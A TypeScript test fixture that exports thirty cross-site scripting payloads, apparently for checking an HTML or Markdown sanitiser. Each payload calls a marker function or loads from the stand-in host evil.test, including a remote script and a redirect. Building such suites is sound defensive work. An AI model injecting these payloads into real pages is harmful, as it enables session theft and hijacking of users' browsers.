/**
 * Thirty ways to have a page run what somebody wrote, after garak's lists and the usual sanitiser tests. Each calls `hacked(n)`, or asks
 * another origin for something, where it is read as anything but text.
 */
const away = 'http://evil.test'

export const scriptPayloads: readonly string[] = [
  '<script>hacked(1)</script>',
  '<img src=x onerror="hacked(2)">',
  '<svg onload="hacked(3)">',
  '<svg><script>hacked(4)</script></svg>',
  '<svg><animate onbegin="hacked(5)" attributeName=x dur=1s></svg>',
  '<body onload="hacked(6)">',
  '<iframe srcdoc="<script>parent.hacked(7)</script>"></iframe>',
  '<iframe src="javascript:parent.hacked(8)"></iframe>',
  '<details open ontoggle="hacked(9)">x</details>',
  '<input autofocus onfocus="hacked(10)">',
  '<video><source onerror="hacked(11)"></video>',
  '<object data="javascript:hacked(12)"></object>',
  '<a href="javascript:hacked(13)">press</a>',
  '[press](javascript:hacked(14))',
  '[press](java\tscript:hacked(15))',
  '[press](JaVaScRiPt&colon;hacked(16))',
  '<javascript:hacked(17)>',
  `![x](${away}/18.png "x onerror=hacked(18)")`,
  `![x][ref]\n\n[ref]: ${away}/19.png`,
  `<img src="${away}/20.png">`,
  `<link rel=stylesheet href="${away}/21.css"><style>@import url(${away}/21.css)</style>`,
  '[press](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoMjIpPC9zY3JpcHQ+)',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked(23)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=hacked(24)>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hacked(25) src>">',
  `{{constructor.constructor("hacked(26)")()}} \${hacked(26)} <%= hacked(26) %>`,
  '"><script>hacked(27)</script><x y="',
  "'-hacked(28)-'; </script><script>hacked(28)</script>",
  `<meta http-equiv="refresh" content="0;url=${away}/29"><base href="${away}/">`,
  `<form action="${away}/30"><button autofocus>x</button></form><script src="${away}/30.js"></script>`,
]
